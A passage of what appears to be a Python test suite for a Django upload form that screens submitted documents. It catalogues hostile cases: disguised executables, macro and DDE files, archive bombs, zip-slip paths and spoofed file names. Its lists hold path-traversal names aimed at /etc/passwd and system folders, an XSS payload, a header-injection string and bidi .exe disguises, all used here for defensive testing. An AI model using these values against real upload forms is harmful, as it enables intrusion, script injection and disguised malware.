    Hostile("pe-as-docx", "report.docx", pe, "wrong_type"),
    Hostile("macho-as-pdf", "report.pdf", macho, "wrong_type"),
    Hostile("macho-universal-as-doc", "report.doc", macho_universal, "wrong_type"),
    Hostile("script-as-odt", "report.odt", shell_script, "wrong_type"),
    Hostile("html-as-pdf", "report.pdf", html, "wrong_type"),
    Hostile("html-bom-as-pdf", "report.pdf", html_with_bom, "wrong_type"),
    Hostile("html-as-docx", "report.docx", html, "wrong_type"),
    Hostile("svg-as-pdf", "report.pdf", svg, "wrong_type"),
    Hostile("svg-as-docx", "report.docx", svg, "wrong_type"),
    Hostile("js-as-pdf", "report.pdf", javascript, "wrong_type"),
    Hostile("ole2-not-word-as-doc", "report.doc", ole2_not_word, "unreadable"),
    Hostile("gifar-as-pdf", "report.pdf", gifar, "wrong_type"),
    Hostile("zip-then-pdf", "report.pdf", zip_then_pdf, "wrong_type"),
    Hostile("plain-zip-as-docx", "report.docx", zip_archive, "wrong_type"),
    Hostile("docx-behind-macro-docx", "report.docx", docx_behind_a_macro_docx, "unreadable"),
    Hostile("docx-then-program", "report.docx", docx_then_program, "unreadable"),
    Hostile("odt-then-html", "report.odt", odt_then_html, "unreadable"),
    # Refused: a real document of another kind than its name says.
    Hostile("docx-as-pdf", "report.pdf", docx, "type_mismatch"),
    Hostile("pdf-as-docx", "report.docx", pdf, "type_mismatch"),
    Hostile("doc-as-docx", "report.docx", doc, "type_mismatch"),
    Hostile("odt-as-doc", "report.doc", odt, "type_mismatch"),
    # Refused: begins like a document but does not parse as one.
    Hostile("pdf-header-only", "report.pdf", pdf_only_header, "unreadable"),
    Hostile("pdf-header-html", "report.pdf", pdf_header_html, "unreadable"),
    Hostile("docx-corrupt-deflate", "report.docx", docx_with_corrupt_data, "unreadable"),
    Hostile("docx-truncated", "report.docx", docx_truncated, "unreadable"),
    Hostile("docx-unreadable-footer", "report.docx", docx_with_an_unreadable_footer_not_named_xml, "unreadable"),
    # Refused: macros.
    Hostile("docx-macro", "report.docx", docx_with_macro, "macros"),
    Hostile("docx-macro-enabled", "report.docx", docx_macro_enabled_named_docx, "macros"),
    Hostile("doc-macros", "report.doc", doc_with_macros, "macros"),
    Hostile("odt-macro", "report.odt", odt_with_macro, "macros"),
    # Refused: fields and links that run a program or a script, with no macro in the file.
    Hostile("docx-dde", "report.docx", docx_with_dde, "scripts"),
    Hostile("docx-split-dde-footer", "report.docx", docx_with_split_dde_in_footer, "scripts"),
    Hostile("docx-nested-dde", "report.docx", docx_with_nested_dde, "scripts"),
    Hostile("docx-dde-main-part-not-xml", "report.docx", docx_with_dde_in_a_main_part_not_named_xml, "scripts"),
    Hostile("docx-dde-footer-bin", "report.docx", docx_with_dde_in_a_footer_named_bin, "scripts"),
    Hostile(
        "docx-dde-footer-typed-by-extension", "report.docx", docx_with_dde_in_a_footer_typed_by_extension, "scripts"
    ),
    Hostile("docx-dde-untyped-footer", "report.docx", docx_with_dde_in_an_untyped_footer, "scripts"),
    Hostile("docx-dde-stray-part", "report.docx", docx_with_dde_in_a_stray_part, "scripts"),
    Hostile("docx-dde-spelled-by-nested-field", "report.docx", docx_with_dde_spelled_by_a_nested_field, "scripts"),
    Hostile("docx-dde-around-nested-field", "report.docx", docx_with_dde_spelled_around_a_nested_field, "scripts"),
    Hostile("doc-dde", "report.doc", doc_with_dde, "scripts"),
    Hostile("doc-dde-wide-text", "report.doc", doc_with_dde_in_wide_text, "scripts"),
    Hostile("doc-dde-over-two-pieces", "report.doc", doc_with_dde_over_two_pieces, "scripts"),
    Hostile("doc-dde-spelled-by-nested-field", "report.doc", doc_with_dde_spelled_by_a_nested_field, "scripts"),
    Hostile("doc-dde-out-of-piece-table", "report.doc", doc_with_dde_out_of_its_piece_table, "scripts"),
    Hostile("odt-script-event", "report.odt", odt_with_script_event, "scripts"),
    Hostile("odt-script-link", "report.odt", odt_with_script_link, "scripts"),
    Hostile("odt-dde-link", "report.odt", odt_with_dde_link, "scripts"),
    Hostile("odt-script-embedded-object", "report.odt", odt_with_script_in_embedded_object, "scripts"),
    # Refused: protected by a password, so neither read nor scanned.
    Hostile("pdf-password", "report.pdf", pdf_with_password, "encrypted"),
    Hostile("docx-password", "report.docx", docx_with_password, "encrypted"),
    Hostile("doc-password", "report.doc", doc_with_password, "encrypted"),
    Hostile("odt-password", "report.odt", odt_with_password, "encrypted"),
    # Refused: archives dangerous to open.
    Hostile("odt-bomb", "report.odt", odt_bomb, "archive_bomb"),
    Hostile("docx-bomb", "report.docx", docx_bomb, "archive_bomb"),
    Hostile("docx-nesting-zip", "report.docx", docx_nesting_a_zip, "archive_nested"),
    Hostile("docx-alt-chunk", "report.docx", docx_with_alt_chunk, "archive_nested"),
    Hostile("odt-nesting-disguised-zip", "report.odt", odt_nesting_a_disguised_zip, "archive_nested"),
    Hostile("zip-of-docx", "report.docx", zip_of_documents, "archive_nested"),
    Hostile("docx-zip-slip", "report.docx", docx_zip_slip, "archive_paths"),
    Hostile("docx-zip-slip-windows", "report.docx", docx_zip_slip_windows, "archive_paths"),
    Hostile("docx-zip-slip-drive", "report.docx", docx_zip_slip_drive, "archive_paths"),
    Hostile("docx-nameless-entry", "report.docx", docx_with_nameless_entry, "archive_paths"),
    Hostile("docx-duplicate-part", "report.docx", docx_with_duplicate_part, "archive_paths"),
    Hostile("docx-part-twice-in-two-cases", "report.docx", docx_with_part_twice_in_two_cases, "archive_paths"),
    # Refused: empty.
    Hostile("empty-pdf", "report.pdf", empty, "empty"),
]

# Accepted, with what moderators must be shown before publishing (the finding codes).
FLAGGED_FILES = [
    Hostile("pdf-javascript", "report.pdf", pdf_with_javascript, kind="pdf"),
    Hostile("pdf-embedded-file", "report.pdf", pdf_with_embedded_file, kind="pdf"),
    Hostile("pdf-xfa", "report.pdf", pdf_with_xfa, kind="pdf"),
    Hostile("pdf-then-zip", "report.pdf", pdf_then_zip, kind="pdf"),
    Hostile("pdf-carrying-zip", "report.pdf", pdf_carrying_a_zip, kind="pdf"),
    Hostile("pdf-then-zip-then-its-end", "report.pdf", pdf_then_zip_then_its_end_again, kind="pdf"),
    Hostile("docx-remote-template", "report.docx", docx_with_remote_template, kind="docx"),
    Hostile("docx-remote-template-capitals", "report.docx", docx_with_remote_template_in_capitals, kind="docx"),
    Hostile("docx-linked-image", "report.docx", docx_with_linked_image, kind="docx"),
    Hostile("docx-activex", "report.docx", docx_with_activex, kind="docx"),
    Hostile("docx-fields", "report.docx", docx_with_fields, kind="docx"),
    Hostile("odt-remote-image", "report.odt", odt_with_remote_image, kind="odt"),
    Hostile("docx-ole-package", "report.docx", docx_with_ole_package, kind="docx"),
    Hostile("doc-object-pool", "report.doc", doc_with_object_pool, kind="doc"),
    Hostile("odt-ole-object", "report.odt", odt_with_ole_object, kind="odt"),
]
FLAGS = {
    "pdf-javascript": {"pdf_open_action", "pdf_javascript", "pdf_additional_actions", "pdf_launch"},
    "pdf-embedded-file": {"pdf_embedded_file"},
    "pdf-xfa": {"pdf_xfa"},
    "pdf-then-zip": {"trailing_data"},
    "pdf-carrying-zip": {"trailing_data"},
    "pdf-then-zip-then-its-end": {"trailing_data"},
    "docx-remote-template": {"external_code"},
    "docx-remote-template-capitals": {"external_code"},
    "docx-linked-image": {"external_resource"},
    "docx-activex": {"activex"},
    "docx-fields": {"external_resource"},  # its INCLUDEPICTURE fetches a logo from www.un.org
    "odt-remote-image": {"external_resource"},
    "docx-ole-package": {"embedded_object"},
    "doc-object-pool": {"embedded_object"},
    "odt-ole-object": {"embedded_object"},
}

# Accepted as they are, with nothing to flag.
PLAIN_DOCUMENTS = [
    Hostile("pdf", "report.pdf", pdf, kind="pdf"),
    Hostile("doc", "report.doc", doc, kind="doc"),
    Hostile("doc-fields", "report.doc", doc_with_fields, kind="doc"),
    Hostile("docx", "report.docx", docx, kind="docx"),
    Hostile("docx-hyperlink", "report.docx", docx_with_hyperlink, kind="docx"),
    Hostile("docx-nested-fields", "report.docx", docx_with_nested_fields, kind="docx"),
    Hostile("docx-images", "report.docx", docx_with_images, kind="docx"),
    Hostile("odt", "report.odt", odt, kind="odt"),
]

# Real documents under names that would make them active once saved, or that hide their real ending: refused.
MISLEADING_NAMES = [
    Hostile("pdf-as-html", "page.html", pdf, "web_name"),
    Hostile("pdf-as-svg", "image.svg", pdf, "web_name"),
    Hostile("pdf-as-exe", "setup.exe", pdf, "executable_name"),
    Hostile("pdf-bidi-exe", "cv\u202efdp.exe", pdf, "executable_name"),
    Hostile("pdf-nul-exe", "report.pdf\x00.exe", pdf, "executable_name"),
    Hostile("pdf-zero-width-exe", "report.pdf\u200b.exe", pdf, "executable_name"),
    Hostile("pdf-trailing-dot-exe", "report.pdf.exe. ", pdf, "executable_name"),
    Hostile("pdf-as-js", "report.pdf.js", pdf, "executable_name"),
    Hostile("docx-as-docm", "invoice.docm", docx, "macro_name"),
    Hostile("pdf-no-extension", "report", pdf, "no_extension"),
    Hostile("pdf-as-txt", "report.txt", pdf, "extension_not_accepted"),
]

# Names sent with a valid PDF. The form must store them cleaned: no path, no control or bidirectional character,
# at most 150 characters; none may end in an error page.
HOSTILE_NAMES = {
    "posix-traversal": "../../etc/passwd.pdf",
    "windows-traversal": "..\\..\\Windows\\System32\\evil.pdf",
    "mixed-traversal": "..\\../..\\/evil.pdf",
    "absolute-posix": "/etc/cron.d/evil.pdf",
    "absolute-windows": "C:\\Windows\\evil.pdf",
    "drive-relative": "C:evil.pdf",
    "unc": "\\\\server\\share\\evil.pdf",
    "html-entity-traversal": "&#x2e;&#x2e;&#x2f;&#x2e;&#x2e;&#x2f;evil.pdf",
    "nul": "evil\x00.pdf",
    "control": "\x1b[2Jre\x07po\x08rt\x7f\x9b.pdf",
    "tab-newline": "re\tport\r\nX-Injected: yes.pdf",
    "rlo": "submission\u202egpj.pdf",
    "lro-pdf": "\u202dLTR\u202c override.pdf",
    "isolates": "\u2066iso\u2067late\u2068d\u2069.pdf",
    "marks": "\u200eLRM\u200fRLM\u061cALM.pdf",
    "zero-width": "re\u200bpo\u200crt\u200d\ufeff\u2060.pdf",
    "long-ascii": "a" * 296 + ".pdf",
    "long-accented": "é" * 296 + ".pdf",
    "long-cjk": "報告" * 148 + ".pdf",  # 300 characters, 892 bytes: just under the parser's header limit
    "trailing-dots": "report.pdf. . .",
    "reserved-con": "CON.pdf",
    "reserved-com1": "com1.pdf",
    "markup": "<img src=x onerror=alert(1)>.pdf",
    "quotes": "a\"b'c`.pdf",
    "fullwidth-traversal": "\uff0e\uff0e\uff0f\uff0e\uff0e\uff0fetc\uff0fpasswd.pdf",
    "fullwidth-backslash": "\uff0e\uff0e\uff3cevil.pdf",
}

# Names that hide their real ending or have none, sent with a valid PDF: refused, with the code of the refusal.
REFUSED_NAMES = {
    "long-extension": ("report." + "x" * 200, "no_extension"),
    "only-dots": ("...", "no_extension"),
    "dots-and-spaces": (". . .  ", "no_extension"),
    "leading-dot": (".htaccess", "no_extension"),
    "reserved-nul": ("NUL", "no_extension"),
    "ads-stream": ("report.pdf:evil.exe", "executable_name"),
    "fullwidth-dots": ("\uff0e\uff0e", "no_extension"),
    "two-dot-leader": ("\u2025", "no_extension"),
    "bidi-exe": ("report\u202eexe.pdf\u202c.exe", "executable_name"),
    "fullwidth-exe": ("report.pdf\uff0eexe", "executable_name"),
}

# Names whose part header passes the 1 KiB Django's multipart parser reads (MAX_TOTAL_HEADER_SIZE): the request is
# refused whole, before the form sees it.
OVERLONG_NAMES = {
    "long-emoji": "\U0001f4c4" * 296 + ".pdf",  # 1,188 bytes of UTF-8
    "long-cjk": "報告書" * 120 + ".pdf",  # 364 characters, 1,084 bytes
    "long-ascii": "a" * 1100 + ".pdf",
}

# Names Django's request parser drops (the file then counts as not sent): "" "." ".." after removing the path.
DROPPED_NAMES = {"dot-dot": "..", "dot": ".", "traversal-to-dot-dot": "a/..", "windows-dot-dot": "x\\.."}


# --- A request body built byte for byte ----------------------------------------------------------------------------

BOUNDARY = "HostileKitBoundaryq8YbVo7MA4YWxkTrZu0gW"
MULTIPART = f"multipart/form-data; boundary={BOUNDARY}"


@dataclass(frozen=True)
class Part:
    field: str
    name: str
    content: bytes
    content_type: str = "application/pdf"
    rfc2231: bool = False  # send the name as filename*=UTF-8''…, percent-encoded (NUL, CR and LF go through)


def _disposition(part):
    if part.rfc2231:
        return f"form-data; name=\"{part.field}\"; filename*=UTF-8''{quote(part.name, safe='')}"
    # What browsers do (HTML's multipart/form-data encoding): escape only the quote, CR and LF.
    name = part.name.replace('"', "%22").replace("\r", "%0D").replace("\n", "%0A")
    return f'form-data; name="{part.field}"; filename="{name}"'


def multipart(fields=None, files=()):
    """``(body, content_type)`` of a multipart/form-data request: ``fields`` then the file ``Part``s."""
    out = io.BytesIO()
    for key, value in (fields or {}).items():
        for item in value if isinstance(value, list | tuple) else [value]:
            out.write(f'--{BOUNDARY}\r\nContent-Disposition: form-data; name="{key}"\r\n\r\n'.encode())
            raw = (
                item if isinstance(item, bytes) else str(item).encode("utf-8", "surrogatepass")
            )  # bytes: sent as they are
            out.write(raw + b"\r\n")
    for part in files:
        out.write(f"--{BOUNDARY}\r\nContent-Disposition: {_disposition(part)}\r\n".encode("utf-8", "surrogatepass"))
        out.write(f"Content-Type: {part.content_type}\r\n\r\n".encode())
        out.write(part.content + b"\r\n")
    out.write(f"--{BOUNDARY}--\r\n".encode())
    return out.getvalue(), MULTIPART


def post_multipart(client, path, fields=None, files=(), **extra):
    body, content_type = multipart(fields, files)
    return client.post(path, data=body, content_type=content_type, **extra)
